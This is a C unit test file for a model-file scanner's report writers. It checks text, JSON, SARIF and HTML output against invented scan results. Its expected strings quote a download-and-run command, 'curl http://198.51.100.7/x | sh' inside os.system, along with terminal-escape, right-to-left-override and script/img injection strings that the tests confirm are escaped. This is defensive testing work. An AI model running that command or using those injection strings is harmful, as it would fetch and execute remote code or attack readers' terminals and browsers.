/* The report writers on invented results: what each must say, that hostile text stays text, that the documents are
 * valid (JSON Schema, SARIF schema and HTML parser, when Debian's python3-jsonschema is there), and that the style
 * sheet's digest in the page's policy is the right one. */
#include "report_samples.h"
#include "wire/jout.h"
#include "scan/report_html_css.h"
#include "scan/report_parts.h"
#include "base/utf8.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include <cmocka.h>

enum form { TEXT, TEXT_V, TEXT_C, JSON, SARIF, HTML, FORMS };

static const struct gh_scan_report *sample(const char *name)
{
	for (size_t i = 0; i < LEN(samples); i++)
		if (strcmp(samples[i].name, name) == 0)
			return &samples[i].r;
	fail_msg("no sample %s", name);
	return NULL;
}

static void write_form(const struct gh_scan_report *r, enum form form, struct gh_buf *out)
{
	static const struct gh_report_style style[] = {
		[TEXT] = { .width = 0 }, [TEXT_V] = { .verbose = true }, [TEXT_C] = { .colour = true, .width = 100 }
	};
	if (form <= TEXT_C)
		gh_report_text(r, &style[form], out);
	else if (form == JSON)
		gh_report_json(r, out);
	else if (form == SARIF)
		gh_report_sarif(r, out);
	else
		gh_report_html(r, out);
	assert_false(out->full);
}

static void says_what_matters(void **state)
{
	static const struct {
		const char *sample;
		enum form form;
		const char *has, *lacks;
	} row[] = {
		{ "clean", TEXT, "CLEAN  models/tiny.safetensors · safetensors · 548.1 MB · every byte accounted for\n",
		  "GH-" },
		{ "clean", TEXT, "sha256 " SUM_A "\n", "gatehouse 0.1.0" },
		{ "clean", TEXT_V, "GH-TST-0004, info\n", NULL },
		{ "unsafe", TEXT, "UNSAFE  downloads/model.safetensors\n", "GH-TST-0004" },
		{ "unsafe", TEXT, "GH-TST-0001, critical, UNSAFE\n", "CLEAN" },
		{ "unsafe", TEXT, "os.system('curl http://198.51.100.7/x | sh'): runs a command", NULL },
		{ "unsafe", TEXT_V, "downloads/model.safetensors › archive/data.pkl › byte 24 (57 bytes)\n", NULL },
		{ "unsafe", TEXT_V, "byte 310 (188 bytes), 3 times\n", NULL },
		{ "unsafe", TEXT, "risk  Whoever made the file", NULL },
		{ "unsafe", TEXT, "do    Do not load it.", NULL },
		{ "unsafe", TEXT, "see   CWE-502 CVE-2025-32434 AML.T0011\n", "\033" },
		{ "unsafe", TEXT, "1 note without effect on the verdict", NULL },
		{ "unsafe", TEXT, "gatehouse explain GH-TST-0001", NULL },
		{ "unsafe", TEXT_C, "\033[1;31mUNSAFE\033[0m", NULL },
		{ "incomplete", TEXT, "89.1 kB not accounted for", "every byte" },
		{ "incomplete", TEXT, "12 more findings are counted in the verdict but not listed", NULL },
		{ "unread", TEXT, "not read to its end", "sha256" },
		{ "many", TEXT, "7 files, 551.3 MB: 2 unsafe, 1 incomplete, 2 to review, 2 clean\n", "tokenizer.json" },
		{ "many", TEXT_V, "CLEAN  hub/b/tokenizer.json", NULL },
		{ "empty", TEXT, "0 files, 0 bytes\n", "clean" },
		{ "empty", TEXT, "INCOMPLETE  target\\xff\n", "CLEAN" },
		{ "hostile", TEXT_V, "FAKE: CLEAN", "\nFAKE" },
		{ "unsafe", JSON, "\"verdict\": \"UNSAFE\"", "\"verdict\": \"CLEAN\"" },
		{ "unsafe", JSON, "\"sha256\": \"" SUM_B "\"", NULL },
		{ "unread", JSON, "\"sha256\": null", NULL },
		{ "unread", JSON, "\"complete\": false", "\"complete\": true" },
		{ "hostile", JSON, "\"path_bytes\": \"dir%5C%1B%5D0%3Bowned%07/%3Cb%3E%FF%FE%26%E2%80%AEgpj.exe\"",
		  NULL },
		{ "hostile", JSON, "\\ufffd\\ufffd&\\u202e", NULL },
		{ "clean", JSON, "\"effect\": \"none\"", "path_bytes" },
		{ "clean", SARIF, "\"executionSuccessful\": true", "\"level\": \"error\"" },
		{ "incomplete", SARIF, "\"executionSuccessful\": false", NULL },
		{ "many", SARIF, "\"executionSuccessful\": false", NULL },
		{ "unsafe", SARIF, "\"executionSuccessful\": false", NULL }, /* a member could not be read */
		{ "unsafe", SARIF, "\"security-severity\": \"9.5\"", NULL },
		{ "unsafe", SARIF, "\"external/cwe/cwe-502\"", NULL },
		{ "unsafe", SARIF, "\"occurrenceCount\": 3", NULL },
		{ "hostile", SARIF, "[click] (http://198.51.100.7)", NULL },
		{ "unsafe", HTML, "<h1>UNSAFE</h1>", "<script" },
		{ "hostile", HTML, "&lt;script&gt;alert(1)", "<script" },
		{ "hostile", HTML, "&lt;img src=x", "<img" },
		{ "hostile", HTML, "/&lt;b&gt;\\xff\\xfe&amp;\\u202egpj.exe", "<b>\\xff" },
		{ "unread", HTML, "not read to its end", NULL },
		{ "empty", HTML, "No file was scanned.", NULL },
		{ "many", TEXT, "  stages run: integrity, malware\n  incomplete: tensors (1 of 3 files", "64 YARA" },
		{ "many", TEXT, "detonation (not asked for (--detonate))", NULL },
		{ "many", TEXT_V, "malware (12 pieces of content; with 64 YARA rules)", NULL },
		{ "clean", TEXT, "CLEAN", "stages" },
		{ "many", JSON, "\"tensors\": {", NULL },
		{ "many", JSON, "\"state\": \"incomplete\"", NULL },
		{ "many", JSON, "\"with\": \"64 YARA rules\"", NULL },
		{ "many", HTML, "not looked at in full: &lt;b&gt;", "full: <b>" },
	};
	(void)state;
	for (size_t i = 0; i < LEN(row); i++) {
		gh_auto_buf out = gh_buf(1 << 24);
		write_form(sample(row[i].sample), row[i].form, &out);
		const char *text = gh_buf_cstr(&out);
		if (strstr(text, row[i].has) == NULL)
			fail_msg("row %zu (%s): lacks: %s\n%s", i, row[i].sample, row[i].has, text);
		if (row[i].lacks != NULL && strstr(text, row[i].lacks) != NULL)
			fail_msg("row %zu (%s): must not have: %s\n%s", i, row[i].sample, row[i].lacks, text);
	}
}

/* Whatever enters, what leaves is UTF-8 without a character that could mislead, ends with a newline, and is the same
 * again. The one escape allowed is the colour of TEXT_C, where no sample's text can start it. */
static void every_form_is_safe_to_print(void **state)
{
	(void)state;
	for (size_t i = 0; i < LEN(samples); i++)
		for (enum form form = 0; form < FORMS; form++) {
			gh_auto_buf out = gh_buf(1 << 24), again = gh_buf(1 << 24);
			write_form(&samples[i].r, form, &out);
			write_form(&samples[i].r, form, &again);
			assert_true(gh_span_eq(gh_buf_view(&out), gh_buf_view(&again)));
			assert_true(out.n > 0 && out.p[out.n - 1] == '\n');
			for (struct gh_span s = gh_buf_view(&out); s.n > 0;) {
				uint32_t cp = 0;
				unsigned n = gh_utf8_next(s, &cp);
				if (n == 0 || (gh_utf8_deceptive(cp) && cp != '\n' && !(form == TEXT_C && cp == 033)))
					fail_msg("%s, form %d: byte %02x", samples[i].name, (int)form, s.p[0]);
				s = gh_span_cut(s, n, s.n);
			}
		}
}

static void wraps_to_the_width(void **state)
{
	(void)state;
	for (unsigned width = 1; width <= 130; width += 3)
		for (size_t i = 0; i < LEN(samples); i++) {
			gh_auto_buf out = gh_buf(1 << 24);
			struct gh_report_style style = { .width = width, .verbose = true };
			gh_report_text(&samples[i].r, &style, &out);
			assert_false(out.full);
			size_t cols = 0;
			for (size_t k = 0; k < out.n; k++) {
				cols = out.p[k] == '\n' ? 0 : cols + ((out.p[k] & 0xc0) != 0x80);
				assert_true(cols <= (width < 40 ? 40 : width));
			}
		}
}

/* A thousand bad files: the first ones are told in full, the rest counted; with --verbose nothing is left out. */
static void long_lists_are_cut_and_say_so(void **state)
{
	enum { N = 1000 };
	(void)state;
	struct gh_file_report *f = calloc(N, sizeof *f);
	assert_non_null(f);
	for (size_t i = 0; i < N; i++)
		f[i] = files_unsafe[0];
	struct gh_scan_report r = REPORT("dir", GH_UNSAFE, f, N, 1);
	gh_auto_buf brief = gh_buf(1 << 26), full = gh_buf(1 << 26);
	struct gh_report_style style = { .width = 80 };
	gh_report_text(&r, &style, &brief);
	style.verbose = true;
	gh_report_text(&r, &style, &full);
	assert_true(brief.n < 50000);
	assert_non_null(strstr(gh_buf_cstr(&brief), "… and 880 more files that are not clean"));
	size_t lines = 0;
	for (const char *p = gh_buf_cstr(&brief);
	     (p = strstr(p, "\nUNSAFE      downloads/model.safetensors: ")) != NULL; p++)
		lines++;
	assert_int_equal(lines, 100);
	assert_null(strstr(gh_buf_cstr(&full), "more files"));
	size_t blocks = 0;
	for (const char *p = gh_buf_cstr(&full); (p = strstr(p, "\nUNSAFE  downloads/")) != NULL; p++)
		blocks++;
	assert_int_equal(blocks, N);
	free(f);
}

static void a_full_buffer_is_reported(void **state)
{
	(void)state;
	for (size_t max = 0; max < 3000; max += 37) {
		gh_auto_buf text = gh_buf(max), json = gh_buf(max), sarif = gh_buf(max), html = gh_buf(max);
		const struct gh_report_style style = { .width = 80 };
		gh_report_text(sample("many"), &style, &text);
		gh_report_json(sample("many"), &json);
		gh_report_sarif(sample("many"), &sarif);
		gh_report_html(sample("many"), &html);
		assert_true(json.full && sarif.full && html.full && (text.full || max > 2000));
	}
}

static void sizes(void **state)
{
	static const struct {
		uint64_t bytes;
		const char *text;
	} row[] = {
		{ 0, "0 bytes" },	   { 1, "1 byte" },	     { 999, "999 bytes" },
		{ 1000, "1.0 kB" },	   { 999999, "999.9 kB" },   { 1000000, "1.0 MB" },
		{ 999999999, "999.9 MB" }, { 1000000000, "1.0 GB" }, { UINT64_MAX, "18.4 EB" },
	};
	(void)state;
	for (size_t i = 0; i < LEN(row); i++) {
		gh_auto_buf b = gh_buf(64);
		gh_size_text(&b, row[i].bytes);
		assert_string_equal(gh_buf_cstr(&b), row[i].text);
	}
}

static void names(void **state)
{
	(void)state;
	assert_string_equal(gh_verdict_name(GH_CLEAN), "CLEAN");
	assert_string_equal(gh_verdict_name(GH_INCOMPLETE), "INCOMPLETE");
	assert_string_equal(gh_verdict_name((enum gh_verdict)77), "UNSAFE"); /* nothing unknown looks harmless */
	assert_string_equal(gh_severity_name(GH_INFO), "info");
	assert_string_equal(gh_severity_name((enum gh_severity)77), "critical");
}

/* ---- judged by others ----------------------------------------------------------------------------------------- */

static void save(const char *dir, const char *name, const char *ext, struct gh_span doc)
{
	char path[256];
	(void)snprintf(path, sizeof path, "%s/%s.%s", dir, name, ext);
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	assert_int_equal(fwrite(doc.p, 1, doc.n, f), doc.n);
	assert_int_equal(fclose(f), 0);
}

static void documents_are_valid(void **state)
{
	(void)state;
	char dir[] = "/tmp/gatehouse-report-XXXXXX";
	assert_non_null(mkdtemp(dir));
	for (size_t i = 0; i < LEN(samples); i++) {
		gh_auto_buf json = gh_buf(1 << 24), sarif = gh_buf(1 << 24), html = gh_buf(1 << 24);
		gh_report_json(&samples[i].r, &json);
		gh_report_sarif(&samples[i].r, &sarif);
		gh_report_html(&samples[i].r, &html);
		save(dir, samples[i].name, "json", gh_buf_view(&json));
		save(dir, samples[i].name, "sarif", gh_buf_view(&sarif));
		save(dir, samples[i].name, "html", gh_buf_view(&html));
	}
	char cmd[512];
	(void)snprintf(cmd, sizeof cmd, "/usr/bin/python3 tests/unit/check_reports.py %s; rc=$?; rm -r %s; exit $rc",
		       dir, dir);
	int rc = system(cmd); /* NOLINT: fixed command, run by the developer */
	if (rc == 77 << 8) {
		print_message("skipped: python3-jsonschema is not installed\n");
		skip();
	}
	assert_int_equal(rc, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(says_what_matters),
		cmocka_unit_test(every_form_is_safe_to_print),
		cmocka_unit_test(wraps_to_the_width),
		cmocka_unit_test(long_lists_are_cut_and_say_so),
		cmocka_unit_test(a_full_buffer_is_reported),
		cmocka_unit_test(sizes),
		cmocka_unit_test(names),
		cmocka_unit_test(documents_are_valid),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
